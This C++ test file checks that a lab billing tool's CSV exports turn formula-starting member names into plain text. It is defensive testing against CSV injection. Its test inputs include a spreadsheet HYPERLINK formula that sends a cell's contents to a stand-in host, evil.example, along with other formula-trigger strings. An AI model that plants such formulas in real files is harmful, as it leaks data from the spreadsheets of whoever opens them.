// CSV exports opened as a spreadsheet program reads them: a member name such as
// =HYPERLINK(...) must arrive as text, never as a formula (OWASP "CSV injection").
#include <doctest/doctest.h>

#include "lab_fixture.hpp"

using namespace fabgate;
using fabgate::test::kMinuteMs;

namespace {

constexpr UnixMs kFeb1 = 1'769'904'000'000;  // 2026-02-01T00:00:00Z
constexpr UnixMs kMar1 = 1'772'323'200'000;  // 2026-03-01T00:00:00Z

// RFC 4180 as a spreadsheet reads it: quoted fields may hold commas, quotes and line breaks.
std::vector<std::vector<std::string>> read_csv(const std::string& text) {
    std::vector<std::vector<std::string>> rows(1);
    std::string cell;
    bool quoted = false, row_open = false;
    for (std::size_t i = 0; i < text.size(); ++i) {
        char c = text[i];
        if (quoted) {
            if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') {
                cell += '"';
                ++i;
            } else if (c == '"') {
                quoted = false;
            } else {
                cell += c;
            }
        } else if (c == '"') {
            quoted = true;
            row_open = true;
        } else if (c == ',') {
            rows.back().push_back(cell);
            cell.clear();
            row_open = true;
        } else if (c == '\n') {
            rows.back().push_back(cell);
            cell.clear();
            rows.emplace_back();
            row_open = false;
        } else {
            cell += c;
            row_open = true;
        }
    }
    if (row_open) rows.back().push_back(cell);
    if (rows.back().empty()) rows.pop_back();
    return rows;
}

// What a spreadsheet evaluates: a cell whose first character starts a formula.
bool starts_formula(const std::string& cell) {
    return !cell.empty() && std::string("=+-@\t\r").find(cell.front()) != std::string::npos;
}

const std::vector<std::string> kHostileNames = {
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
};

void hostile_members(test::ZonedLab& lab) {
    lab.setup();
    std::vector<SessionRecord> sessions;
    for (std::size_t i = 0; i < kHostileNames.size(); ++i) {
        auto id = "h-" + std::to_string(i);
        lab.ok({"members", "add", id, "--name", kHostileNames[i], "--class", "student"});
        sessions.push_back(
            test::gate_session("019c0000-0000-7000-8000-0000000001" + std::to_string(10 + i), id,
                               "laser-1", kFeb1 + kMinuteMs, kFeb1 + 31 * kMinuteMs));
    }
    auto db = lab.open();
    test::deliver(db, sessions, kMar1);
}

void check_no_formula(const std::string& csv, std::size_t name_column) {
    auto rows = read_csv(csv);
    REQUIRE(rows.size() == kHostileNames.size() + 1);
    std::vector<std::string> names;
    for (std::size_t r = 1; r < rows.size(); ++r) {
        for (const auto& cell : rows[r]) CHECK_MESSAGE(!starts_formula(cell), cell);
        REQUIRE(rows[r].size() > name_column);
        names.push_back(rows[r][name_column]);
    }
    // The text is all there, shown as text: one leading apostrophe, nothing else changed.
    for (const auto& hostile : kHostileNames)
        CHECK_MESSAGE(std::find(names.begin(), names.end(), "'" + hostile) != names.end(), hostile);
}

}  // namespace

TEST_CASE("the batch export a billing system opens holds no formula") {
    test::ZonedLab lab("", kMar1 + kMinuteMs);
    hostile_members(lab);
    lab.ok({"billing", "close", "--to", "2026-03-01"});
    auto csv = lab.ok({"billing", "export", "1"});
    check_no_formula(csv, 2);  // member_name
    auto rows = read_csv(csv);
    CHECK(rows[1][11] == "600");  // numbers stay numbers: 30 min at 12.00/h in minor units
}

TEST_CASE("the usage report's CSV holds no formula") {
    test::ZonedLab lab("", kMar1 + kMinuteMs);
    hostile_members(lab);
    auto csv = lab.ok(
        {"usage", "report", "--from", "2026-02-01", "--to", "2026-03-01", "--format", "csv"});
    check_no_formula(csv, 1);  // name
}
